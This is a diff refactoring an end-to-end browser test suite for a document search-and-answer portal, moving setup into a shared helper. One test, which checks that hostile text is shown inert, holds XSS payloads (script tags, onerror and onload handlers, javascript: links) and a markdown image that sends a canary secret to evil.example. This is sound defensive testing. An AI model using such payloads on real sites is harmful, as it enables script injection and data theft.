@@ -2,54 +2,33 @@ import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { AxeBuilder } from '@axe-core/playwright';
-import { createFootnoteClient } from '@footnote/contracts';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
-import type { Browser, BrowserContext, BrowserContextOptions, Page } from 'playwright-core';
-import { openBrowser } from '../../support/open-browser.ts';
+import { beforeEach, describe, expect, it } from '@jest/globals';
+import type { BrowserContextOptions, Page } from 'playwright-core';
 import { sampleQuestions } from '../../support/sample-questions.ts';
-import { startFootnote, type RunningFootnote } from '../../support/start-footnote.ts';
+import { startFootnote } from '../../support/start-footnote.ts';
+import { usePortal } from '../../support/use-portal.ts';
 import { waitForSample } from '../../support/wait-for-sample.ts';
 
 const [question = ''] = await sampleQuestions();
 /** A word that the sample must hold, since it is in a question that the sample answers. */
 const word = question.split(/\W+/).reduce((longest, next) => (next.length > longest.length ? next : longest), '');
 
-const startMsMax = 180_000;
 const testMsMax = 120_000;
 const answerMsMax = 60_000;
 
-let footnote: RunningFootnote;
-let browser: Browser;
-let context: BrowserContext;
+const portal = usePortal({
+  viewport: { width: 1440, height: 900 },
+  environment: { FOOTNOTE_SAMPLE: 'true' },
+  prepare: ({ client }) => waitForSample(client),
+});
 let page: Page;
-/** What pages asked of other origins, and what the browser complained about: both stay empty. */
-let complaints: string[];
-
-beforeAll(async () => {
-  [footnote, browser] = await Promise.all([startFootnote({ environment: { FOOTNOTE_SAMPLE: 'true' } }), openBrowser()]);
-  await waitForSample(createFootnoteClient({ baseUrl: footnote.url }));
-}, startMsMax);
-
-afterAll(async () => {
-  await browser?.close();
-  await footnote?.stop();
-}, startMsMax);
-
-beforeEach(() => openPage({ viewport: { width: 1440, height: 900 } }));
-afterEach(() => context.close());
+beforeEach(() => {
+  page = portal.page;
+});
 
 async function openPage(options: BrowserContextOptions): Promise<void> {
-  await context?.close();
-  context = await browser.newContext({ reducedMotion: 'reduce', ...options });
-  page = await context.newPage();
-  complaints = [];
-  page.on('request', (request) => {
-    if (!request.url().startsWith(footnote.url)) complaints.push(`asked ${request.url()}`);
-  });
-  page.on('pageerror', (error) => complaints.push(String(error)));
-  page.on('console', (message) => {
-    if (message.type() === 'error') complaints.push(message.text());
-  });
+  await portal.reopen(options);
+  page = portal.page;
 }
 
 // Run in the page, where there is a document; this program has none, so they are texts to it.
@@ -59,10 +38,8 @@ const quoteIsInView = `(() => {
   return top >= 0 && top < window.innerHeight;
 })()`;
 
-const visit = (path: string) => page.goto(footnote.url + path, { waitUntil: 'networkidle' });
-
 async function visitAnswer(): Promise<void> {
-  await visit(`/ask?${new URLSearchParams({ q: question })}`);
+  await portal.visit(`/ask?${new URLSearchParams({ q: question })}`);
   await page.waitForSelector('[data-phase="done"]', { timeout: answerMsMax });
 }
 
@@ -74,7 +51,7 @@ describe('the portal', () => {
   it(
     'answers a typed question with a footnote at every sentence, and opens the source at the quote',
     async () => {
-      await visit('/');
+      await portal.visit('/');
       await page.locator('[data-query-box]').fill(question);
       await page.keyboard.press('Enter');
       await page.waitForSelector('[data-phase="done"]', { timeout: answerMsMax });
@@ -89,7 +66,7 @@ describe('the portal', () => {
       await mark.waitFor();
       expect(await mark.isVisible()).toBe(true);
       expect(await markedText()).toBe(flat(quote ?? ''));
-      expect(complaints).toEqual([]);
+      expect(portal.complaints).toEqual([]);
     },
     testMsMax,
   );
@@ -116,7 +93,7 @@ describe('the portal', () => {
   it(
     'finds passages, counts them aloud, and opens one with its words marked',
     async () => {
-      await visit('/');
+      await portal.visit('/');
       await page.locator('[data-query-box]').fill(word);
       await page.keyboard.press('Enter');
       await page.waitForURL('**/search?**');
@@ -127,7 +104,7 @@ describe('the portal', () => {
       const mark = page.locator('[data-document] mark').first();
       await mark.waitFor();
       expect(await page.locator('[data-document] mark:focus').count()).toBe(1);
-      expect(complaints).toEqual([]);
+      expect(portal.complaints).toEqual([]);
     },
     testMsMax,
   );
@@ -195,7 +172,7 @@ describe('the portal', () => {
   it(
     'keeps the chosen theme, from the first byte on',
     async () => {
-      await visit('/');
+      await portal.visit('/');
       await page.getByRole('button', { name: 'Change between light and dark' }).click();
       await page.reload();
       expect(await page.locator('html').getAttribute('data-theme')).toBe('dark');
@@ -206,7 +183,7 @@ describe('the portal', () => {
   it(
     'shows hostile text of a document as text, and follows none of its addresses',
     async () => {
-      const client = createFootnoteClient({ baseUrl: footnote.url });
+      const { client } = portal;
       const hostile = [
         '<script>alert(1)</script> <img src=x onerror=alert(1)> </mark><svg onload=alert(1)>',
         '![zebrafish](https://evil.example/?secret=canary) [zebrafish](javascript:alert(1)) <https://evil.example/>',
@@ -216,16 +193,16 @@ describe('the portal', () => {
         { source: 'hostile', externalId: 'a.txt', mediaType: 'text/plain', text: hostile, uri: 'javascript:alert(1)' },
         { wait: true },
       );
-      page.on('dialog', (dialog) => complaints.push(dialog.message()));
+      page.on('dialog', (dialog) => portal.complaints.push(dialog.message()));
       for (const path of [`/documents/${documentId}?start=0&end=60`, '/search?q=zebrafish', '/ask?q=zebrafish?']) {
-        await visit(path);
+        await portal.visit(path);
         await page.getByText('canary').first().waitFor();
         // The frames of plugins are the portal's own.
         const foreign = 'main :is(img, script, iframe:not([src^="/plugins/"]), [onerror], [onload])';
         expect(await page.locator(foreign).count()).toBe(0);
         expect(await page.locator('main a[href*="evil"], main a[href^="javascript"]').count()).toBe(0);
       }
-      expect(complaints).toEqual([]);
+      expect(portal.complaints).toEqual([]);
     },
     testMsMax,
   );
@@ -233,7 +210,7 @@ describe('the portal', () => {
   it(
     'answers 404 for a document that is not there, as a page with a way on',
     async () => {
-      const response = await visit('/documents/doc_00000000');
+      const response = await portal.visit('/documents/doc_00000000');
       expect(response?.status()).toBe(404);
       expect(await page.getByRole('link', { name: 'Search the documents' }).count()).toBe(1);
     },
@@ -255,7 +232,7 @@ describe.each(['light', 'dark'] as const)('every page in %s', (colorScheme) => {
     'has no serious fault for assistive technology, and fits a narrow phone: %s',
     async (path) => {
       await openPage({ viewport: { width: 360, height: 740 }, colorScheme });
-      await visit(path);
+      await portal.visit(path);
       if (path.startsWith('/ask')) await page.waitForSelector('[data-phase="done"]', { timeout: answerMsMax });
       const { violations } = await new AxeBuilder({ page }).analyze();
       const serious = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical');
